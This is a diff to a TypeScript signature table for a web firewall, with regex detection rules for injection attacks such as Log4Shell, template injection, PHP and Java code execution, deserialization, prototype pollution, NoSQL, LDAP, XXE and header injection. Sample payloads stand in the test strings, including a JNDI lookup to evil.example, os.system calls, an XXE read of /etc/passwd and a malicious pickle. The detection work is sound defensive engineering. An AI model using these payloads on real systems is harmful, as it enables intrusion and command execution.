@@ -6,7 +6,7 @@ const TEMPLATES: readonly SignatureRow[] = [
   {
     slug: "java-jndi",
     title: "Log4Shell: a look-up in a logged value",
-    pattern: String.raw`\$\{[^}]{0,60}(?:jndi|:-?j(?:n?d?i?)?\})|\$\{(?:jndi|ctx|java|env|sys|main|marker|lower|upper|base64|k8s|docker|spring|bundle|sd|log4j)(?::|%3a)|\$\{(?:[a-z0-9_]{0,20}:){2,4}-|\$\{:{1,4}-|\$\{[^}]{0,30}:-[a-z:/]{1,4}\}[^ ]{0,40}\$\{|\$\{\$\{`,
+    pattern: String.raw`\$\{[^}]{0,60}(?:jndi ?:|:-?j(?:n?d?i?)?\})|\$\{(?:jndi|ctx|java|env|sys|main|marker|lower|upper|base64|k8s|docker|spring|bundle|sd|log4j)(?::|%3a)|\$\{(?:script:[a-z]{2,12}:|dns:(?:address|name|canonical)|(?:url|file):utf|const:[a-z]{1,20}\.|(?:xml|properties):[/a-z]|base64decoder:|urldecoder:)|\$\{(?:[a-z0-9_]{0,20}:){2,4}-|\$\{:{1,4}-|\$\{[^}]{0,30}:-[a-z:/]{1,4}\}[^ ]{0,40}\$\{|\$\{\$\{`,
     needs: ["${"],
     hits: [
       "${jndi:ldap://evil.example/a}",
@@ -21,16 +21,16 @@ const TEMPLATES: readonly SignatureRow[] = [
   {
     slug: "template-expression",
     title: "Template injection: an expression that is worked out",
-    pattern: String.raw`(?:\{\{|\$\{|#\{|%\{|<%=?|\{%|\[\[|@\(|\*\{|\{)[=:@#]? ?['"(]{0,2}\d{1,12} ?['"]? ?[*+/-] ?['"]?\d{1,12} ?['"]?\)? ?(?:\}\}|\}|%>|%\}|\]\]|\))`,
-    needs: ["{{", "${", "#{", "<%", "{%", "[[", "@(", "*{"],
-    hits: ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "@(1+2)"],
-    misses: ["{{name}}", "[[1, 2]]", "${price}", "a{1,3}"],
+    pattern: String.raw`(?:\{\{|\$\{|#\{|%\{|<%[=-]?|\{%|\[\[|@\(|\*\{)[=:@#]? ?['"(]{0,2}\d{1,12} ?['"]? ?[*+/-] ?['"]?\d{1,12} ?['"]?\)? ?(?:\}\}|\}|%>|%\}|\]\]|\))|\{ ?\d{1,12} ?\* ?\d{1,12} ?\}|\{% ?(?:set [a-z_]{1,20} ?= ?\d|if \d)|\$\{\{<%\[`,
+    needs: ["{", "<%", "[[", "@("],
+    hits: ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "@(1+2)", "{7*7}", "~{7*7}", "{% set x = 7*7 %}"],
+    misses: ["{{name}}", "[[1, 2]]", "${price}", "a{1,3}", "{1-3}"],
   },
   {
     slug: "template-objects",
     title: "Template injection: ways from a template to the system",
     // Of braces that are repeated each is looked behind as far as the next one only.
-    pattern: String.raw`(?:\{|<%|<#|#set ?\(|\$[a-z]{1,20}\.)[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr|__)|self ?\. ?_|config ?(?:\.(?:items|from|__|secret|root)|\[ ?['"](?:secret|sql)|\|)|lipsum ?[.|\[]|cycler ?[.|\[]|joiner ?[.|\[]|getruntime|class\.forname|getclass ?\( ?\)|t\(java\.|freemarker\.|['"]\?new ?\(|\?api\b|_self\.|registerundefinedfiltercallback|\|? ?(?:filter|map|sort|reduce) ?\( ?['"(\[{]{0,3}(?:system|passthru|exec)\b|system ?\( ?['"]|popen ?\(|os\.popen|range\.constructor|process\.(?:mainmodule|binding)|require ?\( ?['"]child_process|__proto__|constructor ?(?:\.|\[|\( ?['"])|settings\.secret|smarty\.(?:version|server|template_object)|php\}|lookup string\.|\|passthru|url_for\.__|get_flashed_messages\.__|app\.request\.|dump ?\( ?app)`,
+    pattern: String.raw`(?:\{|<%|<#|#set ?\(|\$[a-z]{1,20}\.)[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr|__)|self ?\. ?_|config ?(?:\.(?:items|from|__|secret|root)|\[ ?['"](?:secret|sql)|\|)|lipsum ?[.|\[]|cycler ?[.|\[]|joiner ?[.|\[]|getruntime|class\.forname|getclass ?\( ?\)|t\(java\.|freemarker\.|['"]\?new ?\(|\?api\b|_self\.|registerundefinedfiltercallback|\|? ?(?:filter|map|sort|reduce) ?\( ?['"(\[{]{0,3}(?:system|passthru|exec)\b|system ?\( ?['"]|popen ?\(|os\.popen|range\.constructor|process\.(?:mainmodule|binding)|require ?\( ?['"]child_process|__proto__|constructor ?(?:\.|\[|\( ?['"])|settings\.secret|smarty\.(?:version|server|template_object)|php\}|lookup string\.|\|passthru|url_for\.__|get_flashed_messages\.__|app\.request\.|dump ?\( ?app|messages\.storages|process\.env|beans ?\}\})|\$\{(?:page|request|session|application)scope|\$\{(?:class|request|response|session|pagecontext|facescontext|applicationcontext)\.(?:get|class|request|session)|<%@ ?(?:page|include|taglib) |@(?:\{ ?(?:int|var|string) |system\.(?:diagnostics|io)\.)|\bsystem\.diagnostics\.process\.|\{\{ ?printf |\$\{\.(?:data_model|globals|main|vars|current_template)|\{\{ ?\[\]\.class\b`,
     needs: [
       "__",
       "request",
@@ -62,6 +62,18 @@ const TEMPLATES: readonly SignatureRow[] = [
       "url_for",
       "get_flashed",
       "dump",
+      "messages.",
+      "beans",
+      "scope",
+      "${class",
+      "${response",
+      "${session",
+      "context.",
+      "<%@",
+      "@{",
+      "printf",
+      "${.",
+      "[].class",
     ],
     hits: [
       "{{config.items()}}",
@@ -77,7 +89,7 @@ const TEMPLATES: readonly SignatureRow[] = [
   {
     slug: "template-probe",
     title: "Template injection: a probe as a whole value",
-    pattern: String.raw`^[^ ]{0,20}\{\{ ?(?:config|self|request|settings|session|app|_self|_context|globals|g|env|this|dump\([a-z_]{0,20}\)|debug|\$on\.constructor|[a-z]{1,10}\.__[a-z]{1,20}|['"][^'"]{0,20}['"] ?\. ?(?:toupper|tolower|upper|lower|join|__)[a-z]{0,8}) ?(?:\(\)|\(\))? ?\}\}|^[^ ]{0,20}\{% ?(?:debug|import|include|extends|for [a-z]{1,10} in [(\[]|if [(\['"])[^%]{0,80}%\}|^[^ ]{0,20}\{(?:php|literal|\$smarty\.[a-z]{1,30}|system\(|exec\(|if [a-z_]{2,20}\()|^#(?:set|foreach|include|evaluate) ?\(|^\$\{\{? ?[a-z.]{1,40}\.(?:getclass|class)\b|^<%= ?(?:[a-z0-9_.:'"]{1,40} ?(?:\.|\()|\d)|^#\{ ?(?:[a-z0-9_.:]{1,40} ?[.(]|\d)|^\$\{@[a-z_]{1,20} ?\(|\{\$\{@?[a-z_]{2,20} ?\(|^[^ ]{0,10}\$\{ ?(?:sleep|phpinfo|print|system|eval|passthru|exec|md5|die) ?\(`,
+    pattern: String.raw`^[^ ]{0,20}\{\{ ?(?:config|self|request|settings|session|app|_self|_context|globals|g|env|this|dump\([a-z_]{0,20}\)|debug|\$on\.constructor|[a-z]{1,10}\.__[a-z]{1,20}|['"][^'"]{0,20}['"] ?\. ?(?:toupper|tolower|upper|lower|join|__)[a-z]{0,8}) ?(?:\(\)|\(\))? ?\}\}|^[^ ]{0,20}\{% ?(?:debug|import (?:os|sys|subprocess)|load log|raw __|print ?\(|with [a-z]{1,10} ?= ?[a-z'"\[]|for [a-z]{1,10} in [(\[]|if [(\['"])[^%]{0,80}%\}|^[^ ]{0,20}\{(?:php|literal|\$smarty\.[a-z]{1,30}|system\(|exec\(|if [a-z_]{2,20}\()|^#(?:set|foreach|include|evaluate) ?\(|^\$\{\{? ?[a-z.]{1,40}\.(?:getclass|class)\b|^[^ ]{0,10}(?:<%[=-]? ?|#\{ ?)(?:\d|['"${"`"}%]|(?:file|dir|io|kernel|process|self|global|root|env|object|open3?|system|exec|eval|spawn|runtime|require|function|t)\b ?(?:\.|\(|\[|%>|\}))|^\$\{@[a-z_]{1,20} ?\(|\{\$\{@?[a-z_]{2,20} ?\(|^[^ ]{0,10}\$\{ ?(?:sleep|phpinfo|print|system|eval|passthru|exec|md5|die) ?\(`,
     needs: [
       "{{",
       "{%",
@@ -107,13 +119,24 @@ const TEMPLATES: readonly SignatureRow[] = [
       "{${sleep(20)}}",
       "${@print(md5(1))}",
     ],
-    misses: ["{{name}}", "Hello {{ user.name }}", "{{ config.title }}", "{% if user %}x{% endif %}", "${name}", "<%= name %>"],
+    misses: [
+      "{{name}}",
+      "Hello {{ user.name }}",
+      "{{ config.title }}",
+      "{% if user %}x{% endif %}",
+      "${name}",
+      "<%= name %>",
+      "<%= f.label :name %>",
+      "#{user.name} joined",
+      '{% include "header.html" %}',
+    ],
   },
   {
     slug: "template-python",
     title: "Python objects that lead to the system",
     pattern: String.raw`__(?:class|globals|builtins|mro|subclasses|import|getattribute|reduce)__ ?(?:\.|\[|\(|\b)|\b__import__ ?\(|\bos\.(?:system|popen|exec[lv]p?e?) ?\(|\bsubprocess\.(?:popen|call|run|check_output)|\bpickle\.loads|\beval ?\( ?compile ?\(`,
     needs: ["__", "os.", "subprocess.", "pickle.", "compile"],
+    unless: isSentence,
     hits: ["''.__class__.__mro__", "__import__('os').system('id')", "os.popen('id')", "subprocess.check_output"],
     misses: ["__init__.py", "os.path", "the subprocess. Call"],
   },
@@ -131,7 +154,7 @@ const PHP: readonly SignatureRow[] = [
   {
     slug: "php-call",
     title: "PHP injection: a call as a value",
-    pattern: String.raw`^[^ ]{0,24}?(?:^|[^a-z0-9_.> ] ?)@?(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|file_(?:get|put)_contents|fopen|readfile|highlight_file|show_source|base64_decode|gzinflate|str_rot13|unserialize|phpinfo|ini_set|putenv|scandir|glob|phpversion|php_uname|getenv|print_r|var_dump|die) ?\( ?(?:['"${"`"}$@]|base64_|chr ?\(|\) ?(?:;|$|\})|str_|get_|system\(|phpinfo\(|gz|\d{1,6} ?\) ?;)`,
+    pattern: String.raw`^[^ ]{0,24}?(?:^|[^a-z0-9_.> ] ?|['"] ?\. ?)@?(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|file_(?:get|put)_contents|fopen|readfile|highlight_file|show_source|base64_decode|gzinflate|str_rot13|unserialize|phpinfo|ini_set|putenv|scandir|glob|phpversion|php_uname|getenv|print_r|var_dump|die) ?\( ?(?:['"${"`"}$@]|base64_|chr ?\(|\) ?(?:;|$|\})|str_|get_|system\(|phpinfo\(|gz|\d{1,6} ?\) ?;)`,
     beginsValue: true,
     needs: ["("],
     hits: [";system('id')", "phpinfo()", "eval($_POST[x])", "';phpinfo();//", "print_r(scandir('/'))", "call_user_func('system','id')"],
@@ -183,7 +206,7 @@ const JAVA: readonly SignatureRow[] = [
   {
     slug: "java-runtime",
     title: "Java injection: classes that run something",
-    pattern: String.raw`(?:java\.lang\.(?:runtime|processbuilder|system|class|thread|reflect)|getruntime ?\( ?\)|processbuilder ?\(|javax\.(?:script|naming|el)\.|org\.apache\.(?:commons\.(?:collections|fileupload|jelly)|xalan|log4j|struts)|com\.sun\.(?:rowset|org|jndi)|sun\.(?:misc|reflect)\.|groovy\.lang|org\.springframework\.(?:context|beans|expression)|ognl\.ognlcontext|freemarker\.template\.utility|bsh\.interpreter|classloader\.(?:url|resources|parent|defaultassertionstatus)|class\.module\.classloader)`,
+    pattern: String.raw`(?:java\.lang\.(?:runtime|processbuilder|system|class|thread|reflect)|getruntime ?\( ?\)|processbuilder ?\(|javax\.(?:script|naming|el)\.|org\.apache\.(?:commons\.(?:collections|fileupload|jelly)|xalan|log4j|struts)|com\.sun\.(?:rowset|org|jndi)|sun\.(?:misc|reflect)\.|groovy\.lang|org\.springframework\.(?:context|beans|expression)|ognl\.ognlcontext|freemarker\.template\.utility|bsh\.interpreter|classloader\.(?:url|resources|parent|defaultassertionstatus)|class[\]\[.'"]{1,4}module[\]\[.'"]{1,4}classloader|java\.net\.(?:inet[46]address|inetsocketaddress|urlclassloader)|javax\.swing\.jeditorpane|jdk\.nashorn\.|javax\.imageio\.|java\.beans\.(?:eventhandler|xmldecoder)|groovy\.util\.expando|ch\.qos\.logback\.core\.db)`,
     unless: isStackTrace,
     hits: [
       "java.lang.Runtime.getRuntime().exec('id')",
@@ -209,8 +232,24 @@ const JAVA: readonly SignatureRow[] = [
   {
     slug: "java-serialized",
     title: "Java injection: a serialised object",
-    pattern: String.raw`^(?:ro0ab[a-z0-9+/]|h4siaaaaaaaa|\xac\xed\x00?\x05|aced0005)`,
-    needs: ["ro0ab", "h4siaaaa", "\xac\xed", "aced0005"],
+    pattern: String.raw`^(?:[a-z_]{1,20}=)?(?:ro0ab[a-z0-9+/]|h4siaaaaaaaa|\xac\xed\x00?\x05|aced0005|tzo[w-z0-5](?:oij|[mno][a-z0-9]oi)|ytox?[a-z0-9+/]{2,60}(?:tzo[w-z0-5]o|o086[mno])|gasv[a-z0-9+/_-]{12}|ga[jn][9jdo][a-z0-9+/_-]{16}|y29zcnn5c3rlb|y3bvc2l4cn|bah[vbcu][a-z0-9+/_-]{2}[a-z0-9+/_-]{20})|aaeaaad[/_]{5}|abaaaa/////we|aqaaap////8b`,
+    needs: [
+      "ro0ab",
+      "h4siaaaa",
+      "\xac\xed",
+      "aced0005",
+      "tzo",
+      "o086",
+      "gasv",
+      "gaj",
+      "gan",
+      "y29zcnn5",
+      "y3bvc2l4",
+      "bah",
+      "aaeaaad",
+      "abaaaa/",
+      "aqaaap/",
+    ],
     targets: INPUT | HEADERS,
     hits: ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "aced00057372"],
     misses: ["ro0t", "placed0005"],
@@ -242,8 +281,8 @@ const NODE: readonly SignatureRow[] = [
   {
     slug: "node-prototype",
     title: "Prototype pollution",
-    pattern: String.raw`(?:^|[\[.{"' ])__proto__(?:$|[\].:"' =\[])|constructor(?:\]?\[|\.)prototype|\[constructor\]\[prototype\]`,
-    needs: ["__proto__", "prototype"],
+    pattern: String.raw`(?:^|[\[.{"' /])__proto__(?:$|[\].:"' =\[/])|constructor(?:\]?\[|[./]|['"] ?: ?\{ ?['"])prototype|__(?:lookup|define)[gs]etter__|__pro__proto__to__|protoprototypetype|(?:^|[\[."'])object(?:\[|\.)prototype(?:\]\[|\.)[a-z_]{1,40}\]? ?=|^object(?:\[|\.)prototype(?:\]\[|\.)[a-z_]{1,40}\]?$`,
+    needs: ["__proto__", "prototype", "etter__", "__pro__"],
     hits: ["__proto__[admin]", "a[__proto__][b]", "constructor.prototype.x", "constructor[prototype][x]"],
     misses: ["a prototype", "the constructor's prototype", "my__proto__x"],
   },
@@ -253,7 +292,7 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "nosql-operators",
     title: "NoSQL injection: operators in names of arguments",
-    pattern: String.raw`(?:^|\[|\.)\$(?:ne|eq|gt|gte|lt|lte|in|nin|not|or|and|nor|regex|where|exists|type|expr|jsonschema|mod|all|elemmatch|size|function|lookup|merge|out)\]?$`,
+    pattern: String.raw`(?:^|\[|\.)\$(?:ne|eq|gt|gte|lt|lte|in|nin|not|or|and|nor|regex|where|exists|type|expr|jsonschema|mod|all|elemmatch|size|function|lookup|merge|out|rename|comment)(?:\]?$|\]?\[|\.)`,
     needs: ["$"],
     hits: ["user[$ne]", "$where", "a[$regex]", "$or"],
     misses: ["$100", "us$ not", "price[$]"],
@@ -261,25 +300,63 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "nosql-script",
     title: "NoSQL injection: scripts in queries",
-    pattern: String.raw`(?:['"{,;] ?['"]?\$(?:where|ne|gt|gte|lt|lte|nin|regex|exists|or|function)['"]? ?:|\$where|(?:^|['";(&|{] ?)(?:return )?this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\(|\.length|\.startswith|\[)|(?:^|[;'" ])db\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|aggregate|mapreduce|getcollection)[a-z]{0,10} ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==|['"] ?; ?(?:return|while|sleep|var|throw|it=)\b|;it=new date\(|do\{[a-z]{1,12}=new date|(?:^|[;'"{ ])sleep ?\( ?\d{3,6} ?\))`,
-    needs: ["$", "this.", "db.", "||", "&&", "return", "while", "sleep", "var", "throw", "it=", "do{"],
+    pattern: String.raw`(?:['"{,;] ?['"]?\$(?:where|ne|nin|regex|exists|or|function|comment)['"]? ?:|\$[gl]te?['"]? ?: ?(?:['"]|null|undefined|\{)|^\[\$(?:ne|gte?|lte?|nin|regex|exists|where)\]|^function ?\( ?\) ?\{ ?return |['"] ?\}?\)? ?(?:or [^ ]{1,12} )?(?:detach delete |union match ?\(|match ?\([a-z:]{0,20}\) ?(?:detach|return)|return [a-z] ?(?:union|//)|call dbm?s?\.)|load csv from|['"]\}?\)?//$|\$where|(?:^|['";(&|{] ?)(?:return )?this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\(|\.length|\.startswith|\[)|(?:^|[;'" ])db\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|aggregate|mapreduce|getcollection)[a-z]{0,10} ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==|['"] ?; ?(?:return|while|sleep|var|throw|it=)\b|;it=new date\(|do ?\{ ?[a-z]{1,12} ?= ?new date|(?:^|[;'"{ ])sleep ?\( ?\d{3,6} ?\))`,
+    needs: [
+      "$",
+      "this.",
+      "db.",
+      "||",
+      "&&",
+      "return",
+      "while",
+      "sleep",
+      "var",
+      "throw",
+      "it=",
+      "new date",
+      "function",
+      "match",
+      "delete ",
+      "call db",
+      "load csv",
+      "//",
+    ],
+    unless: isProgram,
     hits: ["', $where: '1 == 1", "';return this.password.match(/a/)//", "db.users.find()", "' || 'a'=='a"],
     misses: ["this. That", "db. users", "a && b == c"],
   },
   {
     slug: "ldap-filter",
     title: "LDAP injection: a filter",
-    pattern: String.raw`\)\((?:\||&|!|[a-z0-9-]{1,30}[~<>]?=)|\(\|\([a-z0-9-]{1,30}=|\*\)\(|\(&\([a-z]|\*\)\)(?:\x00|\(|$)|\*\(\||\)\)\(\||^[^()]{0,40}\)\(?[|&!]\(|\(objectclass=|\*\)[(&|]{1,2}[a-z(]`,
-    needs: [")(", "(|", "(&", "*)", ")|", ")&", ")!", "(objectclass"],
+    pattern: String.raw`\)\((?:\||&|!|[a-z0-9-]{1,30}[~<>]?=)|\(\|\([a-z0-9-]{1,30}=|\*\)\(|\(&\([a-z]|\*\)\)(?:\x00|\(|$)|\*\(\||\)\)\(\||^[^()]{0,40}\)\(?[|&!]\(|\(objectclass=|\*\)[(&|]{1,2}[a-z(]|\* ?\) ?\( ?[a-z0-9-]{1,30} ?[~<>:]?=|(?:\*|\\2a)(?:\)|\\29)(?:\(|\\28)|^\(!\([a-z]|^\((?:cn|uid|mail|sn|samaccountname|memberof|userprincipalname|useraccountcontrol)(?::[0-9.]{1,40}:)?=[^()]{1,80}\)$`,
+    needs: [
+      ")(",
+      "(|",
+      "(&",
+      "*)",
+      ")|",
+      ")&",
+      ")!",
+      "(objectclass",
+      "\\2",
+      ") (",
+      "(cn=",
+      "(uid=",
+      "(mail=",
+      "(sn=",
+      "(sama",
+      "(member",
+      "(user",
+    ],
     hits: ["*)(uid=*))(|(uid=*", "admin)(&(password=*)", "(|(cn=*)"],
     misses: ["f(x)(y)", "(a) (b)", "smile :)("],
   },
   {
     slug: "xml-entity",
     title: "XML: entities and documents from elsewhere",
-    pattern: String.raw`<!(?:entity|doctype)[ \[][^>]{0,200}(?:system|public|\[|%|entity)|<!entity|<\?xml-stylesheet|<xi:include|xmlns:xi ?=|<xsl:|<!\[cdata\[ ?<`,
+    pattern: String.raw`<!(?:entity|doctype)[ \[][^>]{0,200}(?:system|public|\[|%|entity)|<!entity|<\?xml-stylesheet|<xi:include|xmlns:xi ?=|<xsl:`,
     unless: isPublicHtml,
-    needs: ["<!entity", "<!doctype", "xml-stylesheet", "xi:include", "xmlns:xi", "<xsl:", "<![cdata["],
+    needs: ["<!entity", "<!doctype", "xml-stylesheet", "xi:include", "xmlns:xi", "<xsl:"],
     hits: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<!ENTITY % p SYSTEM "http://x">', '<xi:include href="x"/>'],
     misses: ["<!doctype html>", "<a>b</a>", "an entity"],
   },
@@ -303,7 +380,7 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "yaml-objects",
     title: "YAML that makes objects",
-    pattern: String.raw`!!python/(?:object|name|module)|!!(?:javax|java|com|org)\.[a-z]{1,40}\.[a-z.]{1,80}|!(?:ruby|php)/(?:object|hash|struct|array|class)\b`,
+    pattern: String.raw`!!python/(?:object|name|module)|!!js/(?:function|regexp|undefined)|tag:yaml\.org,2002:(?:js|python|ruby|java)|!!(?:javax|java|com|org)\.[a-z]{1,40}\.[a-z.]{1,80}|!(?:ruby|php)/(?:object|hash|struct|array|class)\b`,
     hits: [
       '!!python/object/apply:os.system ["id"]',
       "!!python/object/new:type",
@@ -311,6 +388,32 @@ const DATA: readonly SignatureRow[] = [
       "--- !ruby/object:Gem::Installer",
     ],
     misses: ["learn python/object now!!", "wow!! java. And more", "!important", "see com.example!!"],
+  },
+  {
+    slug: "cache-commands",
+    title: "A command for a cache behind a line break",
+    pattern: String.raw`[\r\n](?:flushall|flushdb|flush_all|config set |slaveof |replicaof |eval ["'][^"'\r\n]{1,60}["'] \d|script load|module load|set [^\r\n ]{1,60} [^\r\n ]{1,60}(?: \d{1,9} \d{1,9})?\r\n|stats\r\n)|\*\d{1,3}\r?\n\$\d{1,4}\r?\n`,
+    needs: ["flush", "config set", "slaveof", "replicaof", "eval ", "script load", "module load", "set ", "stats", "$"],
+    reading: "lines",
+    hits: ["x\r\nFLUSHALL\r\n", "*1\r\n$8\r\nflushall", "x\r\nset a 0 3600 10\r\n1"],
+    misses: ["flush all pipes", "a\nset the table", "*1 and $8"],
+  },
+  {
+    slug: "object-types",
+    title: "Types that a deserialiser is told to make",
+    pattern: String.raw`\bsystem\.(?:windows|diagnostics|io|data|configuration|management|web|security|activities|workflow|runtime)\.[a-z.0-9]{3,60}, ?(?:presentation|system|mscorlib|microsoft)|^py/(?:object|reduce|type|function|newargs)$|^json_class$|\bexpandedwrapper${"`"}2|<objectdataprovider|<java\.util\.priorityqueue`,
+    needs: ["system.", "py/", "json_class", "expandedw", "objectdata", "priorityq"],
+    hits: ["System.Diagnostics.Process, System", "py/object", "json_class"],
+    misses: ["System.IO.FileNotFoundException: Could not find file", "happy/object", "system.data, they said"],
+  },
+  {
+    slug: "python-pickle",
+    title: "A pickle that calls a function",
+    pattern: String.raw`(?:^|[\n(.])[ci](?:os|posix|nt|subprocess|commands|builtins|__builtin__)\n(?:system|popen|eval|exec|call|check_output|getoutput|spawn[a-z]{1,3}|run|apply)\n`,
+    reading: "lines",
+    needs: ["os", "nt", "subprocess", "commands", "builtin"],
+    hits: ["cos\nsystem\n(S'id'\ntR.", "(S'id'\nios\nsystem\n."],
+    misses: ["os\nsystem\n", "the cosmos\nsystem"],
   },
   {
     slug: "ssi",
@@ -322,7 +425,7 @@ const DATA: readonly SignatureRow[] = [
   {
     slug: "header-injection",
     title: "A response header in a value",
-    pattern: String.raw`^[^\r\n ]{0,300}[\r\n]{1,8}[ \t]?(?:[^\r\n]{0,60}[\r\n]{1,4})?(?:set-cookie2?|location|content-type|content-length|content-disposition|refresh|link|access-control-[a-z-]{3,30}|transfer-encoding|status|server|cache-control|host|via|content-security-policy|x-[a-z-]{2,30}|bcc|cc|to|subject|from|reply-to|mime-version) ?:|^[^\r\n ]{0,300}[\r\n]{1,8}(?:http/[0-9]|<html|<script|(?:get|post|put) /)`,
+    pattern: String.raw`^[^\r\n ]{0,300}[\r\n]{1,8}[ \t]?(?:[^\r\n]{0,60}[\r\n]{1,4})?(?:set-cookie2?|location|content-type|content-length|content-disposition|content-encoding|connection|last-modified|etag|expires|p3p|vary|www-authenticate|refresh|link|access-control-[a-z-]{3,30}|transfer-encoding|status|server|cache-control|host|via|content-security-policy|x-[a-z-]{2,30}|mime-version) ?:|^[^\r\n ]{0,300}[\r\n]{1,8}(?:http/[0-9]|<html|<script|(?:get|post|put) /)`,
     beginsValue: true,
     unless: isNestedPart,
     needs: [":", "http/", "<html", "<script", " /"],
@@ -331,7 +434,31 @@ const DATA: readonly SignatureRow[] = [
     hits: ["x\r\nSet-Cookie: a=b", "%0d%0aLocation: http://evil.example", "a\r\n\r\nHTTP/1.1 200 OK", "%0aContent-Length: 0"],
     misses: ["set a cookie", "my location: home", "over http/s", "name: x\nlocation: Berlin", "Dear all,\nsee you\nTo: do"],
   },
+  {
+    slug: "mail-injection",
+    title: "A head of a message or of a request in a value",
+    pattern: String.raw`^[^\r\n @]{1,64}@[^\r\n @]{1,64}[\r\n]{1,2}\.?[\r\n]{0,2}(?:(?:bcc|cc|to|subject|from|reply-to) ?:|mail from:|rcpt to:|data[\r\n])|^[^\r\n ]{0,64} http/1\.[01]\r?\n[a-z-]{2,30}:|^[^\\ ]{0,64}\\[nr](?:\\n)?(?:set-cookie|location|content-(?:type|length)|x-[a-z-]{2,30}) ?:|^[^\r\n ]{0,64}\r?\ndata[\r\n]|^[^\xc4\xe5 ]{0,64}(?:\xe5\x98[\x8a\x8d]|\xc4[\x8a\x8d]){1,4}(?:set-cookie|location|content-type|x-)`,
+    beginsValue: true,
+    reading: "lines",
+    needs: [":", "data"],
+    targets: ARGUMENTS | COOKIES | PATH,
+    hits: ["a@b.example\r\nBcc: c@d.example", "x\\r\\nSet-Cookie: a=b", "x HTTP/1.1\r\nHost: a"],
+    misses: ["Hi,\nTo: nobody in particular", "see a@b.example\nthanks", "C:\\new\\data"],
+  },
 ];
+
+/** What people say of programs begins with words. */
+function isSentence(text: string): boolean {
+  return /^[a-z']{1,20},? [a-z']{2,20} [`'a-z]{1,20}[ ,.?!(`]/.test(text) && !/[{}$<>;]/.test(text.slice(0, 8192));
+}
+
+/** Scripts begin with words of their language. */
+function isProgram(text: string): boolean {
+  return (
+    /^\s{0,20}(?:var|let|const|if ?\(|import|export|class|async) ?[\w({*]/.test(text.slice(0, 200)) &&
+    !/\$where|this\./.test(text.slice(0, 8192))
+  );
+}
 
 /** A part within a part has its own head. */
 function isNestedPart(text: string): boolean {
